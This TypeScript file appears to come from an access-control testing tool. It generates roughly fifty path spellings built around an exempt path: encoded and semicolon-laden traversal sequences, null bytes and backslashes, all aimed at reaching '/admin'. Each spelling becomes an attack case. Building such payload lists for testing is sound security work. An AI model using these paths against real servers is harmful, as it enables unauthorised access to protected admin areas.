import { Attack } from './attack';

/** Spellings around an exempt path, to get somewhere else. */
export function spelledPaths(host: string, exempt: string): Attack[] {
  const paths = [
    '/', '/admin', `${exempt}/`, `${exempt}/x`, `${exempt}x`, `${exempt}.`, `${exempt};x`, `${exempt}%20`, `${exempt}%00`, `${exempt}\u00ff`,
    `/${exempt}`, exempt.toUpperCase(), `/x/..${exempt}/../admin`, `${exempt}/../admin`, `${exempt}/..%2fadmin`, `${exempt}%2f..%2fadmin`, `${exempt}%2f%2e%2e%2fadmin`,
    `${exempt}/%2e%2e/admin`, `${exempt}/..;/admin`, `${exempt}/..%3b/admin`, `${exempt}/..%5cadmin`, `${exempt}\\..\\admin`, `${exempt}/..%252fadmin`,
    `${exempt}/..;x=1/admin`, `${exempt}/.;/../admin`, `${exempt}/.;/admin`, `${exempt};/../admin`, `${exempt}/%2e%2e;/admin`, `${exempt}/..;%2fadmin`, `${exempt}%2f..;/admin`,
    `${exempt}%5c..%5cadmin`, `${exempt}\\..;\\admin`, `${exempt}/x/..;/../admin`, `${exempt}//..//admin`, `${exempt}%2f%2f..%2f%2fadmin`, `//x/..;${exempt}/..;/admin`,
    `/x%2f..${exempt}`, `/x/..;${exempt}`, `/admin%3f/..;${exempt}`, `/admin;/..;${exempt}/..;/admin`, `/.;${exempt}/..%5c/admin`, `${exempt}/..;%3f/admin`, `${exempt}?/..;/admin`,
    `${exempt}#/../admin`, `/admin?${exempt}`, `/admin#${exempt}`, `/admin;${exempt}`, `http://${host}${exempt}/../admin`,
  ];
  return paths.map(path => ({ name: `path ${path}`, spell: plain => ({ ...plain, authority: host, path }) }));
}
